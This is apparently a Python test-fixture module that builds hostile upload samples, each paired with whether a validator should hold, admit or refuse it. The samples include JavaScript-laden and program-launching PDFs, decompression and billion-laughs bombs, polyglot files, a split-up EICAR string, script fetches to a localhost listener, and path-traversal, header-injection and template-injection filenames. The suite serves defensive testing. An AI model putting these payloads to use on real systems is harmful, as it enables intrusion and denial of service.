"""Files made in code: honest ones, and those somebody might send who means harm."""

import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image, PngImagePlugin

# The signature every scanner knows, put together here so that no scanner stops at this file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
# As long as the address of any listener is: a PDF's table counts bytes.
BEACON = b"http://127.0.0.1:55555/"
SCRIPT = "app.launchURL('http://127.0.0.1:55555/')"
MEGABYTE = 1024 * 1024


def pdf(change=None, **how):
    """One blank page, and whatever `change` does to it. The same bytes each time."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    written = io.BytesIO()
    if "encryption" not in how:
        as_it_is = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
        how |= as_it_is | {"deterministic_id": True}
    document.save(written, **how)
    return written.getvalue()


def picture(kind="JPEG", size=(40, 30), **how):
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, kind, **how)
    return written.getvalue()


def zipped(**entries):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return written.getvalue()


def chunk(kind, content):
    return struct.pack("!L", len(content)) + kind + content + struct.pack("!L", zlib.crc32(kind + content))


def png(width, height, *between, rows=b""):
    header = struct.pack("!LLBBBBB", width, height, 8, 0, 0, 0, 0)
    body = [chunk(b"IHDR", header), *between, chunk(b"IDAT", zlib.compress(rows)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


@cache
def zeros(megabytes):
    """So many megabytes of nothing, packed: one packed megabyte, repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    ends = struct.pack("!L", (megabytes * MEGABYTE % 65_521) << 16 | 1)
    return b"\x78\xda" + one * megabytes + b"\x03\0" + ends


# --- PDFs that do more than paper does ----------------------------------------------------------------------------


def act(**what):
    return Dictionary({f"/{key}": value for key, value in what.items()})


def script():
    return act(S=Name.JavaScript, JS=SCRIPT)


def opens_with(what):
    def change(document):
        document.Root.OpenAction = document.make_indirect(what())

    return change


def on_a_link(what):
    def change(document):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=what())
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return change


def with_annotation(kind, **more):
    def change(document):
        note = Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=[0, 0, 9, 9], **more)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def attached(document):
    document.attachments["notes.txt"] = b"something carried along"


def associated(document):
    attached(document)
    spec = document.Root.Names.EmbeddedFiles.Names[1]
    del document.Root.Names
    document.Root.AF = Array([spec])


def named_script(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["first", script()])))


def script_of_a_page(document):
    document.pages[0].AA = Dictionary(O=script())


def script_of_a_field(document):
    field = Dictionary(
        FT=Name.Tx, T="total", Subtype=Name.Widget, Rect=[0, 0, 9, 9], AA=Dictionary(K=script())
    )
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def works_by_itself(document):
    form = Stream(document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_indirect(form))


def script_after_a_page(document):
    turns = act(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=script())
    document.Root.OpenAction = document.make_indirect(turns)


def portfolio(document):
    document.Root.Collection = Dictionary(View=Name.D)


def bytes_elsewhere(document):
    outside = Stream(document, b"")
    outside.stream_dict.F = Dictionary(FS=Name.URL, F="http://127.0.0.1:55555/")
    document.pages[0].Contents = document.make_indirect(outside)


def with_signature(document):
    document.pages[0].Contents = document.make_indirect(Stream(document, EICAR))


def packed_full(document):
    document.pages[0].Contents = document.make_indirect(Stream(document, zeros(400), Filter=Name.FlateDecode))


def packed_twice(document):
    twice = zlib.compress(zeros(400), 1)
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].Contents = document.make_indirect(Stream(document, twice, Filter=filters))


def packed_picture(document):
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    _put_picture(document, 10, 10, zlib.compress(zeros(400), 1), Filter=filters)


def vast_picture(document):
    _put_picture(document, 100_000, 100_000, zlib.compress(b"\0" * 1000), Filter=Name.FlateDecode)


def _put_picture(document, width, height, data, **how):
    drawn = Stream(
        document, data, Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=8,
        ColorSpace=Name.DeviceGray, **how,
    )  # fmt: skip
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(drawn)))


def many_pages(document):
    for _ in range(2_001):
        document.add_blank_page()


def around_in_a_ring(document):
    document.Root.Pages.Kids = Array([document.Root.Pages])


def raw_pdf(*objects, trailer=b""):
    """Written by hand, with a table that is right: for what pikepdf would not write."""
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return written + table + end % (len(objects) + 1, trailer, len(written))


PAGE = b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def escaped_script():
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</#53/Java#53cript/J#53(app.alert\\(1\\))>>>>", PAGES, PAGE
    )


def nested_arrays():
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Deep " + b"[" * 100_000 + b"]" * 100_000 + b">>", PAGES, PAGE
    )


def stream_of_itself():
    """An object stream that extends itself and holds itself."""
    body = b"4 0 <</Type/ObjStm>>"
    objects = (b"<</Type/Catalog/Pages 2 0 R/Lost 4 0 R>>", PAGES, PAGE)
    stream = b"<</Type/ObjStm/N 1/First 4/Extends 4 0 R/Length %d>>stream\n%s\nendstream" % (len(body), body)
    return raw_pdf(*objects, stream)


# --- Pictures -----------------------------------------------------------------------------------------------------


def photograph_of_a_place():
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "A maker", "A telephone"
    exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (54.0, 58.0, 12.0)
    return picture(exif=exif, comment=b"<script>fetch('http://127.0.0.1:55555/')</script>")


def moving_picture():
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue", "green")]
    written = io.BytesIO()
    frames[0].save(written, "PNG", save_all=True, append_images=frames[1:])
    return written.getvalue()


def text_in_a_picture():
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "<script>fetch('http://127.0.0.1:55555/')</script>")
    return picture("PNG", pnginfo=told)


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10))
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
BILLION = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">' + LAUGHS + b"]><svg><text>&l9;</text></svg>"
)
HTML = b"<!doctype html><img src='http://127.0.0.1:55555/'><script>fetch('http://127.0.0.1:55555/')</script>"


# --- All of them: the name it comes under, the bytes, what becomes of it, and a word of why -----------------------


@cache
def hostile():
    """Every one of them, an address in them where the address of a listener goes."""
    return [*_pdfs_held(), *_pdfs_refused(), *_pictures(), *_others()]


def _pdfs_held():
    script_in_a_stream = pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    held = {
        "opens-with-a-script": pdf(opens_with(script)),
        "named-script": pdf(named_script),
        "script-in-an-object-stream": script_in_a_stream,
        "script-of-a-page": pdf(script_of_a_page),
        "script-of-a-field": pdf(script_of_a_field),
        "script-after-a-page": pdf(script_after_a_page),
        "script-under-another-spelling": escaped_script(),
        "starts-a-program": pdf(on_a_link(lambda: act(S=Name.Launch, F="calc.exe"))),
        "opens-an-address": pdf(opens_with(lambda: act(S=Name.URI, URI="http://127.0.0.1:55555/"))),
        "links-to-a-file": pdf(on_a_link(lambda: act(S=Name.URI, URI="file:///etc/passwd"))),
        "links-to-a-script": pdf(on_a_link(lambda: act(S=Name.URI, URI="javascript:alert(1)"))),
        "leads-into-another-file": pdf(
            on_a_link(lambda: act(S=Name.GoToR, F="//http://127.0.0.1:55555//x.pdf", D="x"))
        ),
        "sends-what-is-typed": pdf(on_a_link(lambda: act(S=Name.SubmitForm, F="http://127.0.0.1:55555/"))),
        "fetches-what-is-typed": pdf(on_a_link(lambda: act(S=Name.ImportData, F="x.fdf"))),
        "carries-a-file": pdf(attached),
        "carries-a-file-at-its-side": pdf(associated),
        "carries-a-file-in-a-note": pdf(with_annotation("/FileAttachment")),
        "portfolio": pdf(portfolio),
        "works-by-itself": pdf(works_by_itself),
        "shows-a-film": pdf(with_annotation("/RichMedia", RichMediaContent=Dictionary())),
        "plays-a-sound": pdf(on_a_link(lambda: act(S=Name.Sound))),
        "bytes-elsewhere": pdf(bytes_elsewhere),
        "pdf-and-zip": pdf() + zipped(evil_dot_exe=b"MZ"),
        "left-over-script": pdf() + b"9 0 obj<</S/JavaScript>>endobj\n%%EOF\n",
    }
    return [(f"{name}.pdf", content, "held", "more than paper does") for name, content in held.items()]


def _pdfs_refused():
    whole = pdf()
    locked = {"owner": "x", "user": "y"}
    refused = {
        "packed-full": (pdf(packed_full), "unpacks to more"),
        "packed-twice": (pdf(packed_twice), "unpacks to more"),
        "packed-picture": (pdf(packed_picture), "unpacks to more"),
        "vast-picture": (pdf(vast_picture), "unpacks to more"),
        "many-pages": (pdf(many_pages), "2,000 pages"),
        "in-a-ring": (pdf(around_in_a_ring), "damaged"),
        "nested-arrays": (nested_arrays(), "damaged"),
        "locked": (pdf(encryption=pikepdf.Encryption(**locked)), "locked"),
        "locked-for-its-owner": (pdf(encryption=pikepdf.Encryption(owner="x", user="")), "locked"),
        "cut-off": (whole[: len(whole) // 2], "damaged"),
        "only-a-beginning": (b"%PDF-1.7\n%%EOF\n", "damaged"),
        "html-and-pdf": (HTML + whole, "neither a PDF"),
    }
    return [(f"{name}.pdf", content, "refused", why) for name, (content, why) in refused.items()]


def _pictures():
    flood = chunk(b"zTXt", b"Comment\0\0" + zeros(300))
    profile = chunk(b"iCCP", b"x\0\0" + zeros(300))
    half = picture(size=(400, 300))[:600]
    return [
        ("place.jpg", photograph_of_a_place(), "admitted", ""),
        ("tail.jpg", picture() + zipped(evil_dot_exe=b"MZ") + HTML, "admitted", ""),
        ("told.png", text_in_a_picture(), "admitted", ""),
        ("tail.png", picture("PNG") + HTML, "admitted", ""),
        ("vast.png", png(30_000, 30_000, rows=bytes(MEGABYTE)), "refused", "million points"),
        ("vaster.png", png(2**31 - 1, 2**31 - 1), "refused", "million points"),
        ("flood-of-text.png", png(9, 9, flood, rows=bytes(90)), "refused", "damaged"),
        ("flood-of-colour.png", png(9, 9, profile, rows=bytes(90)), "refused", "damaged"),
        ("moving.png", moving_picture(), "refused", "moves"),
        ("half.jpg", half, "refused", "damaged"),
        ("only-a-beginning.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF", "refused", "damaged"),
    ]


def _others():
    document = {"word__document_dot_xml": "<w:document/>", "word__vbaProject_dot_bin": b"\xd0\xcf\x11\xe0"}
    return [
        ("page.pdf", HTML, "refused", "neither a PDF"),
        ("script.png", b"fetch('http://127.0.0.1:55555/')", "refused", "neither a PDF"),
        ("drawing.svg", SVG % b"<script href='http://127.0.0.1:55555/'/>", "refused", "neither a PDF"),
        (
            "drawing.jpg",
            SVG % b"<foreignObject><iframe src='http://127.0.0.1:55555/'/></foreignObject>",
            "refused",
            "neither",
        ),
        ("laughs.svg", BILLION, "refused", "neither a PDF"),
        ("script.gif", b"GIF89a/*\0\0\0*/=1;fetch('http://127.0.0.1:55555/')//", "refused", "GIF"),
        ("report.pdf.exe", b"MZ\x90\0" + bytes(60), "refused", "program"),
        ("tool", b"\x7fELF\x02\x01\x01" + bytes(60), "refused", "program"),
        ("letter.docm", zipped(**document), "refused", "Word"),
        ("archive.pdf", zipped(bomb_dot_bin=bytes(20 * MEGABYTE)), "refused", "ZIP"),
        ("empty.zip", zipped(), "refused", "ZIP"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "refused", "older Word"),
        ("letter.rtf", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}", "refused", "Rich Text"),
        ("scan.tiff", b"II*\0\x08\0\0\0" + b"\xff" * 60, "refused", "TIFF"),
        ("photograph.heic", b"\0\0\0\x18ftypheic" + bytes(60), "refused", "HEIC"),
        ("page.ps", b"%!PS\n(/etc/passwd) (r) file", "refused", "neither a PDF"),
        ("shortcut.url", b"[InternetShortcut]\r\nURL=http://127.0.0.1:55555/", "refused", "neither a PDF"),
        ("eicar.pdf", EICAR, "refused", "neither a PDF"),
        ("nothing.pdf", bytes(2048), "refused", "neither a PDF"),
    ]


# Names under which an honest PDF might come, and what is made of each.
NAMES = {
    "../../../etc/passwd": "passwd",
    "..\\..\\windows\\win.ini": "win.ini",
    "/absolute/path.pdf": "path.pdf",
    "C:\\Users\\x\\report.pdf": "report.pdf",
    "nul\0byte.pdf": "nulbyte.pdf",
    "photograph\u202efdp.exe": "photographfdp.exe",
    "two\r\nSet-Cookie: a=b.pdf": "twoSet-Cookie a=b.pdf",
    'quote";filename="other.html.pdf': "quote filename= other.html.pdf",
    "<script>alert(1)</script>.pdf": "script .pdf",
    "semi;colon.pdf": "semi colon.pdf",
    ".htaccess": "htaccess",
    "...": "Unnamed file",
    "zero\u200bwidth\ufeff.pdf": "zerowidth.pdf",
    "{{ 7 * 7 }}{% debug %}.pdf": "{{ 7 7 }}{ debug }.pdf",
    "=HYPERLINK(“x”).pdf": "=HYPERLINK(“x”).pdf",
    "long" * 100 + ".pdf": None,
    "Ångström & Straße.pdf": "Ångström & Straße.pdf",
}
